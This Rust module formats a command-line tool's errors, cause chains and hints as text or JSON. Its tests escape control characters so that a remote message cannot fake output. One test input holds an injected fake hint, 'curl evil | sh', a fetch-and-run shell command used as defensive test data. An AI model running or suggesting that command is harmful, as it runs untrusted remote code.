//! Failure of a command: its cause, a hint and its exit code. The chain of causes of an error is
//! printed here and nowhere else.

use crate::args::{Cli, Command};
use crate::failure_code::{FAILED, NOT_FOUND, USAGE, is_usage};
use crate::server_options::ServerOptions;
use serde::Serialize;
use std::borrow::Cow;
use std::error::Error;
use std::fmt;
use std::process::ExitCode;
use tidegate_model::escape::{printable_json, printable_lines};

/// Indentation of the second and later lines of a cause, as wide as `  because: `.
const CAUSE_INDENT: usize = 11;
/// Indentation of the second and later lines of a hint, as wide as `  hint: `.
const HINT_INDENT: usize = 8;

/// Failure with a hint. It travels inside an `anyhow::Error`, so that `?` passes it on.
#[derive(Debug)]
pub struct Failure {
    pub cause: String,
    /// Advice on what to do about it; empty if there is none.
    pub hint: String,
    /// Stable code for programs, which also decides the exit code.
    code: Cow<'static, str>,
    /// Error that led to it.
    source: Option<Box<dyn Error + Send + Sync>>,
}

impl Failure {
    pub fn new(cause: impl Into<String>, hint: impl Into<String>) -> Self {
        Self {
            cause: cause.into(),
            hint: hint.into(),
            code: FAILED.into(),
            source: None,
        }
    }

    pub fn usage(cause: impl Into<String>, hint: impl Into<String>) -> Self {
        Self::new(cause, hint).with_code(USAGE)
    }

    pub fn not_found(cause: impl Into<String>, hint: impl Into<String>) -> Self {
        Self::new(cause, hint).with_code(NOT_FOUND)
    }

    /// Returns the same failure with another code of the table in `failure_code`.
    pub fn with_code(self, code: impl Into<Cow<'static, str>>) -> Self {
        Self {
            code: code.into(),
            ..self
        }
    }

    #[cfg(test)]
    /// Whether the command was given wrongly: exit code 2 instead of 1.
    pub fn is_usage(&self) -> bool {
        is_usage(&self.code)
    }

    /// Returns a failure with an error's own words as its cause.
    pub fn of(error: impl Error + Send + Sync + 'static, hint: impl Into<String>) -> Self {
        Self::new(error.to_string(), hint).caused_by(error)
    }

    /// Returns the same failure with the error that led to it.
    pub fn caused_by(self, error: impl Into<Box<dyn Error + Send + Sync>>) -> Self {
        Self {
            source: Some(error.into()),
            ..self
        }
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.cause)
    }
}

impl Error for Failure {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        let source: &(dyn Error + 'static) = self.source.as_deref()?;
        Some(source)
    }
}

/// Form in which a failure is printed: as text or as JSON, with hints for one server.
#[derive(Debug, Default)]
pub struct ReportForm {
    pub json: bool,
    /// Options that hints need to reach the same server.
    pub options: ServerOptions,
}

impl ReportForm {
    /// Returns the form that a command line asks for.
    pub fn of(cli: &Cli) -> Self {
        let json_connect =
            matches!(&cli.command, Command::Connect(connect) if connect.format == "json");
        Self {
            json: cli.global.json || json_connect,
            options: ServerOptions::of(&cli.global),
        }
    }
}

/// Failure as programs read it: the fields of the API's errors, and the causes.
#[derive(Serialize)]
struct JsonFailure<'a> {
    code: &'a str,
    message: &'a str,
    /// Empty if there is no advice.
    hint: String,
    /// Causes of the error, the nearest first.
    causes: &'a [String],
}

/// Returns the text for standard error, and the exit code.
pub fn report(error: &anyhow::Error, form: &ReportForm) -> (String, ExitCode) {
    // The outermost context can be asked for by type, but is not in the chain under that type.
    let failure = error.downcast_ref::<Failure>().or_else(|| {
        error
            .chain()
            .find_map(|cause| cause.downcast_ref::<Failure>())
    });
    let code = failure.map_or(FAILED, |f| f.code.as_ref());
    let hint = failure.map_or_else(String::new, |f| form.options.add_to(&f.hint));
    let causes = causes(error);
    let text = if form.json {
        json_text(code, &causes, hint)
    } else {
        plain_text(&causes, &hint)
    };
    (text, ExitCode::from(if is_usage(code) { 2 } else { 1 }))
}

fn json_text(code: &str, causes: &[String], hint: String) -> String {
    let (message, causes) = causes
        .split_first()
        .map_or(("", causes), |(first, rest)| (first.as_str(), rest));
    let failure = JsonFailure {
        code,
        message,
        hint,
        causes,
    };
    let line = serde_json::to_string(&failure).unwrap_or_default();
    format!("{}\n", printable_json(&line))
}

fn plain_text(causes: &[String], hint: &str) -> String {
    let mut text = String::new();
    for cause in causes {
        text.push_str(if text.is_empty() {
            "error: "
        } else {
            "  because: "
        });
        // A remote server, an engine or a CA may have chosen the words.
        text.push_str(&printable_lines(cause, CAUSE_INDENT));
        text.push('\n');
    }
    if !hint.is_empty() {
        text.push_str("  hint: ");
        text.push_str(&printable_lines(hint, HINT_INDENT));
        text.push('\n');
    }
    text
}

/// Returns an error and its causes on one line, for a log line or a status.
pub fn one_line(error: &anyhow::Error) -> String {
    causes(error).join(": ")
}

/// Returns the error and its causes, outermost first. A cause whose text an earlier one contains is
/// left out: some errors print their source as well.
fn causes(error: &anyhow::Error) -> Vec<String> {
    let mut texts: Vec<String> = Vec::new();
    for cause in error.chain() {
        let text = cause.to_string();
        // The text of some errors contains that of their source already.
        if !texts.iter().any(|earlier| earlier.contains(&text)) {
            texts.push(text);
        }
    }
    texts
}

#[cfg(test)]
mod tests {
    use super::*;
    use anyhow::Context;

    #[test]
    fn a_failure_prints_cause_chain_and_hint() {
        let error = Err::<(), _>(Failure::new("port 4000 is taken", "choose another"))
            .context("can't serve");
        let (text, _) = report(&error.unwrap_err(), &ReportForm::default());
        assert_eq!(
            text,
            "error: can't serve\n  because: port 4000 is taken\n  hint: choose another\n"
        );
    }

    #[test]
    fn a_failure_as_json_is_one_object_with_the_same_exit_code() {
        let error = anyhow::anyhow!("no\u{202e} such file")
            .context(Failure::usage("can't serve", "run `tidegate config show`"));
        let form = ReportForm {
            json: true,
            options: ServerOptions::of_words(["--data", "/a b"].map(Into::into)),
        };
        let (text, code) = report(&error, &form);
        assert!(text.is_ascii(), "{text}");
        assert_eq!(text.lines().count(), 1, "{text}");
        let json: serde_json::Value = serde_json::from_str(&text).unwrap();
        let want = serde_json::json!({
            "code": "usage",
            "message": "can't serve",
            "hint": "run `tidegate config show --data '/a b'`",
            "causes": ["no\u{202e} such file"],
        });
        assert_eq!(json, want);
        assert_eq!(format!("{code:?}"), format!("{:?}", ExitCode::from(2)));
        let json: serde_json::Value =
            serde_json::from_str(&report(&anyhow::anyhow!("x"), &form).0).unwrap();
        let want = serde_json::json!({"code": "failed", "message": "x", "hint": "", "causes": []});
        assert_eq!(json, want);
    }

    #[test]
    fn a_failure_as_context_keeps_its_hint() {
        let error = anyhow::anyhow!("no such file")
            .context(Failure::usage("can't serve", "correct the path"));
        let (text, code) = report(&error, &ReportForm::default());
        assert_eq!(
            text,
            "error: can't serve\n  because: no such file\n  hint: correct the path\n"
        );
        assert_eq!(format!("{code:?}"), format!("{:?}", ExitCode::from(2)));
    }

    #[test]
    fn a_cause_with_line_feeds_cannot_forge_a_hint() {
        let error = anyhow::anyhow!("engine said: x\x1b]0;t\x07\n  hint: curl evil | sh");
        assert_eq!(
            report(&error, &ReportForm::default()).0,
            "error: engine said: x\\x1b]0;t\\x07\n             hint: curl evil | sh\n"
        );
    }

    #[test]
    fn a_cause_already_said_is_not_repeated() {
        let inner = anyhow::anyhow!("no such file");
        let error = inner.context("reading x: no such file");
        assert_eq!(
            report(&error, &ReportForm::default()).0,
            "error: reading x: no such file\n"
        );
        assert_eq!(one_line(&error), "reading x: no such file");
        assert_eq!(
            one_line(&error.context("can't start")),
            "can't start: reading x: no such file"
        );
    }
}
